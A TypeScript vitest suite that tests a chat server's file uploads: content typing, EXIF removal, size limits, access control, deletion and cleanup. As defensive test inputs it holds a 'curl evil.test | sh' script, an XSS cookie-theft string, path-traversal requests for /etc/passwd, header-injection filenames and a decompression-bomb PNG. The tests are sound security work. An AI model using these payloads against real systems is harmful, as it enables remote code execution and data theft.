/**
 * Uploads, black-box: what a client sends is stored under a name and a type the server chose,
 * images lose their metadata and get a thumbnail, limits refuse without leaving anything behind,
 * only the uploader and members of a conversation that shows the upload may download it, and
 * deleting the message (or never sending it) removes the bytes; here on local disk, and on S3 in
 * uploads-s3.test.ts.
 */
import { randomBytes, randomUUID } from 'node:crypto';
import { readFile, stat } from 'node:fs/promises';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { housekeeping } from '../server/jobs/housekeeping.js';
import { createDirect, createUsers, postMessage, type TestUser } from './helpers/factories.js';
import type { TestServer } from './helpers/server.js';
import {
  MAX_BYTES,
  startUploadServer,
  image,
  png,
  blankPng,
  postForm,
  fileForm,
  handMadeForm,
  download,
  rawGet,
  sendAttachment,
  isStored,
  uploadRow,
  uploadIds,
  storedFiles,
} from './helpers/uploads.js';

describe('uploads on local disk', () => {
  let s: TestServer;
  let dataDir: string;
  let closeServer: () => Promise<void>;
  let alice: TestUser, bob: TestUser, carol: TestUser;
  let direct: string;

  beforeAll(async () => {
    const started = await startUploadServer();
    ({ server: s, dataDir, close: closeServer } = started);
    [alice, bob, carol] = await createUsers(s.http, 3);
    direct = await createDirect(s.http, alice, bob);
  });
  afterAll(async () => {
    await closeServer?.();
  });

  const upload = (user: TestUser, bytes: Buffer, filename?: string, type?: string) =>
    postForm(s.base, user, fileForm(bytes, filename, type));

  /** Uploads `bytes` and asserts that it was refused with `status`/`code` and left nothing anywhere. */
  async function expectRefused(form: FormData | string, status: number, code: string, contentType?: string) {
    const filesBefore = await storedFiles(dataDir);
    const rowsBefore = await uploadIds(s);
    const res = await postForm(s.base, alice, form, contentType);
    expect(res.status, JSON.stringify(res.body)).toBe(status);
    expect(res.body.error.code).toBe(code);
    expect(await uploadIds(s)).toEqual(rowsBefore);
    expect(await storedFiles(dataDir)).toEqual(filesBefore);
    return res.body.error.message as string;
  }

  describe('storing', () => {
    it('a PNG is typed from its bytes, not from the name or type the client gave', async () => {
      const bytes = await png(1200, 800);
      const res = await upload(alice, bytes, 'evil.exe', 'application/x-msdownload');
      expect(res.status, JSON.stringify(res.body)).toBe(201);
      expect(res.body).toMatchObject({
        filename: 'evil.exe',
        content_type: 'image/png',
        width: 1200,
        height: 800,
        has_thumbnail: true,
      });
      expect(res.body.size).toBeGreaterThan(0);

      const original = await download(s.base, alice, `/api/uploads/${res.body.id}`);
      expect(original.status).toBe(200);
      expect(original.headers.get('content-type')).toBe('image/png');
      expect(original.headers.get('content-disposition')).toMatch(/^inline; filename="evil\.exe"/);
      expect(original.headers.get('x-content-type-options')).toBe('nosniff');
      expect(original.headers.get('content-security-policy')).toMatch(/\bsandbox\b/);
      expect(original.headers.get('content-security-policy')).toMatch(/default-src 'none'/);
      expect(original.headers.get('cache-control')).toMatch(/^private\b/);
      expect(Number(original.headers.get('content-length'))).toBe(res.body.size);
      expect(original.bytes.length).toBe(res.body.size);
      expect(await sharp(original.bytes).metadata()).toMatchObject({ format: 'png', width: 1200, height: 800 });

      const thumb = await download(s.base, alice, `/api/uploads/${res.body.id}/thumbnail`);
      expect(thumb.status).toBe(200);
      expect(thumb.headers.get('content-type')).toBe('image/webp');
      expect(thumb.headers.get('x-content-type-options')).toBe('nosniff');
      expect(thumb.headers.get('content-security-policy')).toMatch(/\bsandbox\b/);
      expect(thumb.headers.get('cache-control')).toMatch(/^private\b/);
      expect(await sharp(thumb.bytes).metadata()).toMatchObject({ format: 'webp', width: 480, height: 320 });
    });

    it.each([
      ['jpeg', 'image/jpeg'],
      ['gif', 'image/gif'],
      ['webp', 'image/webp'],
    ] as const)('a %s image is shown inline, with a thumbnail no larger than the image', async (format, type) => {
      const bytes = await image(40, 30).toFormat(format).toBuffer();
      const res = await upload(alice, bytes, `pic.${format}`, 'application/octet-stream');
      expect(res.status, JSON.stringify(res.body)).toBe(201);
      expect(res.body).toMatchObject({ content_type: type, width: 40, height: 30, has_thumbnail: true });
      const original = await download(s.base, alice, `/api/uploads/${res.body.id}`);
      expect(original.headers.get('content-type')).toBe(type);
      expect((await sharp(original.bytes).metadata()).format).toBe(format);
      const thumb = await download(s.base, alice, `/api/uploads/${res.body.id}/thumbnail`);
      expect(await sharp(thumb.bytes).metadata()).toMatchObject({ format: 'webp', width: 40, height: 30 });
    });

    it('text sent as image/png is plain text: no thumbnail, and it only ever downloads as a file', async () => {
      const text = '<html><script>alert(document.cookie)</script></html>\n';
      const res = await upload(alice, Buffer.from(text), 'pic.png', 'image/png');
      expect(res.status, JSON.stringify(res.body)).toBe(201);
      expect(res.body).toMatchObject({
        filename: 'pic.png',
        content_type: 'text/plain',
        size: Buffer.byteLength(text),
        width: null,
        height: null,
        has_thumbnail: false,
      });
      const got = await download(s.base, alice, `/api/uploads/${res.body.id}`);
      expect(got.status).toBe(200);
      expect(got.headers.get('content-type')).toBe('application/octet-stream');
      expect(got.headers.get('content-disposition')).toMatch(/^attachment; filename="pic\.png"/);
      expect(got.headers.get('x-content-type-options')).toBe('nosniff');
      expect(got.bytes.toString()).toBe(text);
      expect((await download(s.base, alice, `/api/uploads/${res.body.id}/thumbnail`)).status).toBe(404);
    });

    it('a PDF keeps its bytes and type and downloads as an attachment', async () => {
      const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
      const res = await upload(alice, pdf, 'report.pdf', 'text/html');
      expect(res.body).toMatchObject({ content_type: 'application/pdf', has_thumbnail: false });
      const got = await download(s.base, alice, `/api/uploads/${res.body.id}`);
      expect(got.headers.get('content-disposition')).toMatch(/^attachment;/);
      expect(got.bytes.equals(pdf)).toBe(true);
    });

    it.each(['jpeg', 'png', 'webp'] as const)('a %s loses its EXIF metadata (camera, place, owner)', async (format) => {
      const bytes = await image(64, 48)
        .withExif({ IFD0: { Copyright: 'secret-gps', ImageDescription: 'home-address-12' } })
        .toFormat(format)
        .toBuffer();
      expect(bytes.includes('secret-gps')).toBe(true); // the test image does carry it
      const res = await upload(alice, bytes, `photo.${format}`);
      expect(res.status, JSON.stringify(res.body)).toBe(201);
      for (const suffix of ['', '/thumbnail']) {
        const got = await download(s.base, alice, `/api/uploads/${res.body.id}${suffix}`);
        expect(got.status).toBe(200);
        expect(got.bytes.includes('secret-gps'), suffix).toBe(false);
        expect(got.bytes.includes('home-address-12'), suffix).toBe(false);
        expect((await sharp(got.bytes).metadata()).exif, suffix).toBeUndefined();
      }
    });

    it.each(['jpeg', 'png', 'webp'] as const)(
      'a %s turned by EXIF orientation 6 is stored upright, its size as shown',
      async (format) => {
        const bytes = await image(300, 200).withMetadata({ orientation: 6 }).toFormat(format).toBuffer();
        expect((await sharp(bytes).metadata()).orientation).toBe(6);
        const res = await upload(alice, bytes, `turned.${format}`);
        expect(res.body).toMatchObject({ width: 200, height: 300 });
        const original = await sharp((await download(s.base, alice, `/api/uploads/${res.body.id}`)).bytes).metadata();
        // The pixels were turned: no orientation is left for a viewer to apply (or ignore).
        expect({ width: original.width, height: original.height, orientation: original.orientation }).toEqual({
          width: 200,
          height: 300,
          orientation: undefined,
        });
        const thumb = await sharp(
          (await download(s.base, alice, `/api/uploads/${res.body.id}/thumbnail`)).bytes,
        ).metadata();
        expect({ width: thumb.width, height: thumb.height }).toEqual({ width: 200, height: 300 });
      },
    );
  });

  describe('limits', () => {
    it('a file of exactly UPLOAD_MAX_BYTES is stored', async () => {
      const bytes = Buffer.concat([Buffer.alloc(1), randomBytes(MAX_BYTES - 1)]);
      const res = await upload(alice, bytes, 'blob.bin');
      expect(res.status, JSON.stringify(res.body)).toBe(201);
      expect(res.body).toMatchObject({ content_type: 'application/octet-stream', size: MAX_BYTES });
    });

    it('a file over UPLOAD_MAX_BYTES is refused with 413, and nothing is kept', async () => {
      const message = await expectRefused(
        fileForm(Buffer.concat([Buffer.alloc(1), randomBytes(MAX_BYTES)]), 'big.bin'),
        413,
        'payload_too_large',
      );
      expect(message).toMatch(/64 KiB/);
      const huge = await expectRefused(fileForm(Buffer.alloc(MAX_BYTES * 8), 'huge.bin'), 413, 'payload_too_large');
      expect(huge).toMatch(/64 KiB/);
    });

    it.each([
      ['a Windows program', Buffer.concat([Buffer.from('MZ'), randomBytes(500)]), 'holiday.jpg', 'image/jpeg'],
      ['an ELF program', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), randomBytes(500)]), 'a.txt', ''],
      ['a shell script', Buffer.from('#!/bin/sh\ncurl evil.test | sh\n'), 'notes.txt', 'text/plain'],
    ])('%s is refused with 415, whatever it is called', async (_what, bytes, name, type) => {
      const message = await expectRefused(fileForm(bytes, name, type), 415, 'unsupported_media_type');
      expect(message).toMatch(/cannot be shared/);
    });

    it('an empty file is refused with 400', async () => {
      await expectRefused(fileForm(Buffer.alloc(0), 'empty.txt', 'text/plain'), 400, 'validation_failed');
    });

    it('a JSON body is refused with 415: uploads are multipart', async () => {
      await expectRefused(JSON.stringify({ file: 'aGVsbG8=' }), 415, 'unsupported_media_type', 'application/json');
    });

    it('two files, a part with another name, or no file at all are refused with 400', async () => {
      const two = new FormData();
      two.append('file', new Blob(['first file\n']), 'a.txt');
      two.append('file', new Blob(['second file\n']), 'b.txt');
      expect(await expectRefused(two, 400, 'validation_failed')).toMatch(/one file/);

      const renamed = fileForm(Buffer.from('hello\n'), 'a.txt', 'text/plain', 'upload');
      expect(await expectRefused(renamed, 400, 'validation_failed')).toMatch(/part named "file"/);

      const fieldOnly = new FormData();
      fieldOnly.append('file', 'just a string field');
      expect(await expectRefused(fieldOnly, 400, 'validation_failed')).toMatch(/part named "file"/);
    });

    it('a damaged image (right magic, garbage after) is refused with 415', async () => {
      const good = await png(64, 64);
      const damaged = Buffer.concat([good.subarray(0, 8), randomBytes(400)]);
      await expectRefused(fileForm(damaged, 'broken.png', 'image/png'), 415, 'unsupported_media_type');
      // Cut short: a valid header and no pixels.
      await expectRefused(fileForm(good.subarray(0, 60), 'short.png'), 415, 'unsupported_media_type');
    });

    it('a decompression bomb is refused with 415 before it is decoded, and the server carries on', async () => {
      const bomb = blankPng(20_000, 20_000); // 400 million pixels in a few kilobytes
      expect(bomb.length).toBeLessThan(MAX_BYTES);
      expect(await sharp(bomb, { limitInputPixels: false }).metadata()).toMatchObject({ width: 20_000 });
      const rssBefore = process.memoryUsage().rss;
      const message = await expectRefused(fileForm(bomb, 'bomb.png', 'image/png'), 415, 'unsupported_media_type');
      expect(message).toMatch(/too many pixels/);
      // Decoded, it would have taken hundreds of megabytes.
      expect(process.memoryUsage().rss - rssBefore).toBeLessThan(200 * 1024 ** 2);
      const after = await upload(alice, await png(), 'fine.png');
      expect(after.status).toBe(201);
    });

    it('an anonymous upload is refused with 401 and stores nothing', async () => {
      const filesBefore = await storedFiles(dataDir);
      const res = await postForm(s.base, null, fileForm(await png(), 'a.png', 'image/png'));
      expect(res.status).toBe(401);
      expect(await storedFiles(dataDir)).toEqual(filesBefore);
    });
  });

  describe('who may download', () => {
    it('an upload never sent is the uploader’s alone', async () => {
      const { body } = await upload(alice, await png(), 'draft.png');
      for (const other of [bob, carol]) {
        for (const suffix of ['', '/thumbnail']) {
          const got = await download(s.base, other, `/api/uploads/${body.id}${suffix}`);
          expect(got.status, `${other.username}${suffix}`).toBe(404);
          expect(got.headers.get('content-type')).toMatch(/json/);
        }
      }
      expect((await download(s.base, alice, `/api/uploads/${body.id}`)).status).toBe(200);
    });

    it('a sent upload is readable by the members of its conversation and nobody else', async () => {
      const bytes = await png(50, 50);
      const { body } = await upload(alice, bytes, 'shared.png');
      const sent = await sendAttachment(s, alice, direct, body.id);
      expect(sent.status, JSON.stringify(sent.body)).toBe(201);
      expect(sent.body.attachment).toMatchObject({ id: body.id, content_type: 'image/png', has_thumbnail: true });

      const original = await download(s.base, alice, `/api/uploads/${body.id}`);
      for (const suffix of ['', '/thumbnail']) {
        const forBob = await download(s.base, bob, `/api/uploads/${body.id}${suffix}`);
        expect(forBob.status, suffix).toBe(200);
        if (suffix === '') expect(forBob.bytes.equals(original.bytes)).toBe(true);
        const forCarol = await download(s.base, carol, `/api/uploads/${body.id}${suffix}`);
        expect(forCarol.status, suffix).toBe(404);
        expect(forCarol.bytes.length).toBeLessThan(200); // the error, not the image
      }
    });

    it('deleting the message for everyone takes the upload away, and its bytes once the job has run', async () => {
      const { body } = await upload(alice, await png(32, 32), 'gone-soon.png');
      const sent = await sendAttachment(s, alice, direct, body.id);
      expect(sent.status).toBe(201);
      const row = await uploadRow(s, body.id);
      expect(row).toMatchObject({ storage_key: body.id, thumbnail_key: `${body.id}.thumb` });
      expect(await isStored(s, row!.storage_key)).toBe(true);
      expect(await isStored(s, row!.thumbnail_key!)).toBe(true);
      expect((await download(s.base, bob, `/api/uploads/${body.id}`)).status).toBe(200);

      const deleted = await s.http.del(`/api/messages/${sent.body.id}`, alice.token);
      expect(deleted.status, JSON.stringify(deleted.body)).toBe(200);
      expect(deleted.body.attachment).toBeNull();

      for (const user of [bob, alice]) {
        for (const suffix of ['', '/thumbnail']) {
          expect((await download(s.base, user, `/api/uploads/${body.id}${suffix}`)).status).toBe(404);
        }
      }
      expect(await uploadRow(s, body.id)).toBeNull();
      await expect.poll(() => isStored(s, row!.storage_key), { timeout: 10_000, interval: 100 }).toBe(false);
      await expect.poll(() => isStored(s, row!.thumbnail_key!), { timeout: 10_000, interval: 100 }).toBe(false);
      expect(await storedFiles(dataDir)).not.toEqual(expect.arrayContaining([expect.stringContaining(body.id)]));
    });

    it('a reply to a file names the file in its quote, live and in history', async () => {
      const { body } = await upload(alice, Buffer.from('quarterly figures\n'), 'q3-report.txt');
      const file = await sendAttachment(s, alice, direct, body.id, 'file');
      expect(file.status).toBe(201);
      const reply = await postMessage(s.http, bob, direct, {
        content: 'thanks',
        reply_to: file.body.id,
        client_id: randomUUID(),
      });
      expect(reply.status).toBe(201);
      expect(reply.body.reply_to).toMatchObject({ id: file.body.id, message_type: 'file', filename: 'q3-report.txt' });
      const history = await s.http.get(`/api/conversations/${direct}/messages?limit=1`, alice.token);
      expect(history.body.messages[0].reply_to).toMatchObject({ filename: 'q3-report.txt' });
    });

    it('an upload sent to two conversations stays where its message is still shown', async () => {
      const elsewhere = await createDirect(s.http, alice, carol);
      const { body } = await upload(alice, Buffer.from('minutes of the meeting\n'), 'minutes.txt');
      const toBob = await sendAttachment(s, alice, direct, body.id, 'file');
      const toCarol = await sendAttachment(s, alice, elsewhere, body.id, 'file');
      expect([toBob.status, toCarol.status]).toEqual([201, 201]);

      expect((await s.http.del(`/api/messages/${toBob.body.id}`, alice.token)).status).toBe(200);
      expect((await download(s.base, bob, `/api/uploads/${body.id}`)).status).toBe(404);
      const forCarol = await download(s.base, carol, `/api/uploads/${body.id}`);
      expect(forCarol.status).toBe(200);
      expect(forCarol.bytes.toString()).toBe('minutes of the meeting\n');
      expect(await uploadRow(s, body.id)).not.toBeNull();
      expect(await isStored(s, body.id)).toBe(true);
    });

    it('nobody can send an upload of someone else’s, and an image message needs an image', async () => {
      const { body: bobs } = await upload(bob, await png(), 'bobs.png');
      const stolen = await sendAttachment(s, alice, direct, bobs.id);
      expect(stolen.status).toBe(400);
      expect(stolen.body.error.code).toBe('validation_failed');
      expect((await sendAttachment(s, alice, direct, randomUUID())).status).toBe(400);
      // Bob's upload stays his: Alice's attempt did not make it readable by her.
      expect((await download(s.base, alice, `/api/uploads/${bobs.id}`)).status).toBe(404);

      const { body: text } = await upload(alice, Buffer.from('not a picture\n'), 'fake.png', 'image/png');
      const asImage = await sendAttachment(s, alice, direct, text.id, 'image');
      expect(asImage.status).toBe(400);
      expect(asImage.body.error.code).toBe('validation_failed');
      expect((await sendAttachment(s, alice, direct, text.id, 'file')).status).toBe(201);
    });
  });

  describe('paths', () => {
    it.each([
      '/api/uploads/..%2F..%2Fetc%2Fpasswd',
      '/api/uploads/%2e%2e/x',
      '/api/uploads/%2e%2e%2f%2e%2e%2fpackage.json',
      '/api/uploads/../../etc/passwd',
      '/api/uploads/..%5C..%5Cetc%5Cpasswd',
      '/api/uploads/a/b',
      '/api/uploads/0f8fad5b-d9cb-469f-a165-70867728950e%2F..%2F..%2Fpackage.json',
      '/api/uploads/0f8fad5b-d9cb-469f-a165-70867728950e.thumb',
      '/api/uploads/%00',
    ])('GET %s finds nothing', async (rawPath) => {
      const res = await rawGet(s.base, alice, rawPath);
      expect([400, 404]).toContain(res.status);
      expect(res.body).not.toMatch(/root:|"name": "chatify"|"devDependencies"/);
    });

    it('storage keys never come from the client: the name is for display only', async () => {
      const before = await storedFiles(dataDir);
      const res = await upload(alice, Buffer.from('x marks the spot\n'), '../../x', 'text/plain');
      expect(res.status).toBe(201);
      expect(res.body.filename).toBe('x');
      expect(await uploadRow(s, res.body.id)).toEqual({ storage_key: res.body.id, thumbnail_key: null, filename: 'x' });
      const file = path.join('uploads', res.body.id.slice(0, 2), res.body.id);
      expect(await storedFiles(dataDir)).toEqual([...before, file].sort());
      expect(await readFile(path.join(dataDir, file), 'utf8')).toBe('x marks the spot\n');
      await expect(stat(path.join(dataDir, 'x'))).rejects.toThrow(/ENOENT/);

      const img = await upload(alice, await png(), '..\\..\\pic.png');
      expect(img.body.filename).toBe('pic.png');
      expect(await uploadRow(s, img.body.id)).toMatchObject({
        storage_key: img.body.id,
        thumbnail_key: `${img.body.id}.thumb`,
      });
    });

    it('a long name is cut to 255 characters without splitting one, and downloads under that name', async () => {
      const res = await upload(alice, Buffer.from('long\n'), 'a'.repeat(254) + '😀😀.txt');
      expect(res.status).toBe(201);
      expect(res.body.filename).toBe('a'.repeat(254));
      const got = await download(s.base, alice, `/api/uploads/${res.body.id}`);
      expect(got.status).toBe(200);
      expect(got.headers.get('content-disposition')).toContain(`filename*=UTF-8''${'a'.repeat(254)}`);
    });

    it('a name with quotes and non-ASCII characters gives a safe Content-Disposition', async () => {
      const form = handMadeForm('Grüße "x"; filename=evil.exe.txt', Buffer.from('hi\n'));
      const res = await postForm(s.base, alice, form.body, form.contentType);
      expect(res.body.filename).toBe('Grüße "x"; filename=evil.exe.txt');
      const got = await download(s.base, alice, `/api/uploads/${res.body.id}`);
      const disposition = got.headers.get('content-disposition')!;
      expect(disposition).toBe(
        `attachment; filename="Gr__e _x_; filename=evil.exe.txt"; filename*=UTF-8''${encodeURIComponent('Grüße "x"; filename=evil.exe.txt')}`,
      );
    });
  });

  describe('housekeeping', () => {
    it('drops uploads never sent within a day, with their bytes, and keeps sent ones', async () => {
      const { body: unsent } = await upload(alice, await png(), 'abandoned.png');
      const { body: sent } = await upload(alice, await png(), 'kept.png');
      const { body: fresh } = await upload(alice, await png(), 'fresh.png');
      expect((await sendAttachment(s, alice, direct, sent.id)).status).toBe(201);
      await s.ctx.db.query(`UPDATE uploads SET created_at = now() - interval '2 days' WHERE id = ANY($1::uuid[])`, [
        [unsent.id, sent.id],
      ]);

      await housekeeping(s.ctx);

      expect(await uploadRow(s, unsent.id)).toBeNull();
      expect((await download(s.base, alice, `/api/uploads/${unsent.id}`)).status).toBe(404);
      await expect.poll(() => isStored(s, unsent.id), { timeout: 10_000, interval: 100 }).toBe(false);
      await expect.poll(() => isStored(s, `${unsent.id}.thumb`), { timeout: 10_000, interval: 100 }).toBe(false);

      expect(await uploadRow(s, sent.id)).not.toBeNull();
      expect((await download(s.base, bob, `/api/uploads/${sent.id}`)).status).toBe(200);
      expect((await download(s.base, bob, `/api/uploads/${sent.id}/thumbnail`)).status).toBe(200);
      expect(await uploadRow(s, fresh.id)).not.toBeNull();
      expect(await isStored(s, fresh.id)).toBe(true);
    });
  });
});
